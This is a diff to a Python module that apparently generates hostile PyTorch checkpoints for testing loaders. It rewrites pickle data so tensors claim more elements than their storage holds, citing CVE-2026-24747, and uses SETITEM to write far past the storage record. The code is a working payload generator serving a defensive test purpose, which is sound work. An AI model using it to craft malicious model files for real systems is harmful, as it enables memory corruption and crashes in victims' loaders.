@@ -46,8 +46,9 @@ combination) create no sentinel; loading them at all is the failure:
   file's pickle program writes into the weights after they are read.
 - ``storage_record_short``: a storage record of 4 bytes whose pickle declares 256; the tensor
   built on it covers 252 bytes of memory that the file never held.
-- ``setitem_out_of_bounds``: both: ``SETITEM`` writes into such a tensor 160 bytes past the
-  end of its record, corrupting the loader's heap (:attr:`HostilePayload.corrupts_memory`).
+- ``setitem_out_of_bounds``: both: a 4-byte record declared as 2**44 elements, and
+  ``SETITEM`` writes the last one, 64 TiB past the record, at an address no process has: a
+  loader that accepts it dies then and there (:attr:`HostilePayload.corrupts_memory`).
 """
 
 from __future__ import annotations
@@ -436,46 +437,43 @@ _BOMBS = {
 }
 BOMB_CLASSES = tuple(_BOMBS)
 
-# CVE-2026-24747: a record of 4 bytes declared as 64 float32 elements (256 bytes).
-_SHORT_RECORD_BYTES = 4
-_DECLARED_ELEMENTS = 64
-# Where setitem_out_of_bounds writes: element 40, 160 bytes past the end of the record.
-_OUT_OF_BOUNDS_ELEMENT = 40
+# CVE-2026-24747. storage_record_short: a record of 4 bytes declared as 64 float32 elements
+# (256 bytes). setitem_out_of_bounds: declared as 2**44 elements; SETITEM sets the last one,
+# 64 TiB past the record: an address no process has, so an accepting loader dies there and
+# then (SIGSEGV) instead of corrupting its heap in a way that shows up later, or never.
+_SHORT_DECLARED_ELEMENTS = 64
+_FAR_DECLARED_ELEMENTS = 2**44
 
 
 def _tensor_on_storage_0(elements: int) -> _Apply:
-    """A float32 tensor of ``elements`` over the checkpoint's first storage record."""
+    """A float32 tensor of ``elements`` over the checkpoint's storage record 0."""
     storage = _Opcode((("storage", _Global("torch", "FloatStorage"), "0", "cpu", elements), b"Q"))
     ordered = _Apply(_Global("collections", "OrderedDict"), ())
     arguments = (storage, 0, (elements,), (1,), False, ordered)
     return _Apply(_Global("torch._utils", "_rebuild_tensor_v2"), arguments)
 
 
-def _memory_attack(elements: int, set_element: int | None, record_bytes: int | None) -> bytes:
-    """A checkpoint whose weight (storage 0, ``elements`` float32) is seen again as
-    ``model_config``, after ``SETITEM`` sets its ``set_element`` to 7 (when given); storage 0's
-    record cut to ``record_bytes`` (when given)."""
+def _memory_attack(declared: int, record_elements: int, set_element: int | None) -> bytes:
+    """A checkpoint whose weight is a float32 tensor of ``declared`` elements over storage
+    record 0, which holds ``record_elements`` (written by torch for the ``model_config``
+    entry, a tensor sharing that record); ``SETITEM`` then sets the weight's element
+    ``set_element`` to 7, when given."""
     buffer = io.BytesIO()
-    checkpoint = {"epoch": 1, "model_state_dict": {"weight": torch.zeros(elements)}}
-    torch.save({**checkpoint, "model_config": _MARKER}, buffer)
+    checkpoint = {"epoch": 1, "model_state_dict": {"weight": _MARKER}}
+    torch.save({**checkpoint, "model_config": torch.zeros(record_elements)}, buffer)
     data = buffer.getvalue()
-    node = _tensor_on_storage_0(elements)
+    node = _tensor_on_storage_0(declared)
     if set_element is not None:
         node = _Opcode((node, set_element, 7, b"s"))
     pickled = zipfile.ZipFile(io.BytesIO(data)).read(_data_pkl(data))
-    replace = {"data.pkl": pickled.replace(_unicode(_MARKER), _emit(node), 1)}
-    if record_bytes is not None:
-        replace["data/0"] = bytes(record_bytes)
-    return _rewrite_zip(data, replace)
+    return _rewrite_zip(data, {"data.pkl": pickled.replace(_unicode(_MARKER), _emit(node), 1)})
 
 
 _MEMORY_ATTACKS = {
-    "setitem_on_tensor": lambda sentinel: _memory_attack(4, 0, None),
-    "storage_record_short": lambda sentinel: _memory_attack(
-        _DECLARED_ELEMENTS, None, _SHORT_RECORD_BYTES
-    ),
+    "setitem_on_tensor": lambda sentinel: _memory_attack(4, 4, 0),
+    "storage_record_short": lambda sentinel: _memory_attack(_SHORT_DECLARED_ELEMENTS, 1, None),
     "setitem_out_of_bounds": lambda sentinel: _memory_attack(
-        _DECLARED_ELEMENTS, _OUT_OF_BOUNDS_ELEMENT, _SHORT_RECORD_BYTES
+        _FAR_DECLARED_ELEMENTS, 1, _FAR_DECLARED_ELEMENTS - 1
     ),
 }
 MEMORY_ATTACK_CLASSES = tuple(_MEMORY_ATTACKS)
@@ -487,7 +485,7 @@ _HARM = {
     **{attack: "allocated what the file declares" for attack in _BOMBS},
     "setitem_on_tensor": "the file's pickle wrote into a loaded tensor (SETITEM on a non-dict)",
     "storage_record_short": "a tensor covers 252 bytes beyond its 4-byte storage record",
-    "setitem_out_of_bounds": "the file's pickle wrote 160 bytes past its storage record",
+    "setitem_out_of_bounds": "the file's pickle wrote 64 TiB past its 4-byte storage record",
 }
 
 HOSTILE_CLASSES = ATTACK_CLASSES + MEMORY_ATTACK_CLASSES + BOMB_CLASSES
